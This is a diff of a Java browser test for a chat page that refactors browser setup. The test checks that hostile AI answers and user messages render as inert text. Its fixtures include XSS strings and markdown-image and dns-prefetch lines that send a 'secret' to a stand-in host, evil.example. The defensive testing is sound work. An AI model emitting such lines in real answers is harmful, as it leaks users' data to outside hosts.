@@ -13,6 +13,7 @@ import org.assertj.core.api.Assertions;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.extension.RegisterExtension;
 
 /**
  * Rows S27 and S28: whatever a message or an answer says, the page shows it as text and fetches
@@ -38,13 +39,12 @@ class HostileAnswerTest {
           "![secret][g]\n\n[g]: https://evil.example/g.png?q=secret",
           "<link rel=dns-prefetch href=https://secret.evil.example>");
 
-  private final Browsers browsers = Browsers.open();
+  @RegisterExtension static final Browsers BROWSERS = new Browsers();
   private final ServerRig rig = new ServerRig();
   private final FakeModel model = new FakeModel().asOpenAi(rig.setup());
 
   @AfterEach
   void end() {
-    browsers.close();
     model.close();
     rig.close();
   }
@@ -52,7 +52,7 @@ class HostileAnswerTest {
   @Test
   void anAnswerRunsNothingAndFetchesNothing() {
     model.always(ModelScript.answer(_ -> String.join("\n\n", PAYLOADS)));
-    try (ChatPage chat = ChatPage.open(rig.start(), browsers.browser())) {
+    try (ChatPage chat = ChatPage.open(rig.start(), BROWSERS.browser())) {
       chat.converse("be evil");
       assertThat(chat.answers()).containsText(new String[] {"<script>alert(1)</script>"});
       assertThat(chat.answers()).containsText("[click](javascript:alert(1))");
@@ -71,7 +71,7 @@ class HostileAnswerTest {
   @Test
   void anImageIsALinkThatNamesItsHost() {
     model.always(ModelScript.answer(_ -> "![a cat](https://evil.example/cat.png)"));
-    try (ChatPage chat = ChatPage.open(rig.start(), browsers.browser())) {
+    try (ChatPage chat = ChatPage.open(rig.start(), BROWSERS.browser())) {
       chat.converse("show me a cat");
       assertThat(chat.answers().locator("a")).hasText("image: a cat");
       assertThat(chat.answers().locator(".host")).containsText(EVIL);
@@ -81,7 +81,7 @@ class HostileAnswerTest {
 
   @Test
   void aPersonsWordsAreTextTooAlsoInTheListAndTheStory() {
-    try (ChatPage chat = ChatPage.open(rig.start(), browsers.browser())) {
+    try (ChatPage chat = ChatPage.open(rig.start(), BROWSERS.browser())) {
       String words = String.join(" ", PAYLOADS.stream().flatMap(String::lines).toList());
       chat.converse(words);
       assertThat(chat.messages().locator(".text")).hasText(words);
@@ -101,7 +101,7 @@ class HostileAnswerTest {
   void endlessMarkupDoesNotStallThePage() {
     String endless = Stream.generate(() -> "![a](").limit(9000).reduce("", String::concat);
     model.always(ModelScript.answer(_ -> endless));
-    try (ChatPage chat = ChatPage.open(rig.start(), browsers.browser())) {
+    try (ChatPage chat = ChatPage.open(rig.start(), BROWSERS.browser())) {
       chat.converse("stall");
       assertThat(chat.answers()).containsText("![a](![a](");
       model.always(ModelScript.echo());
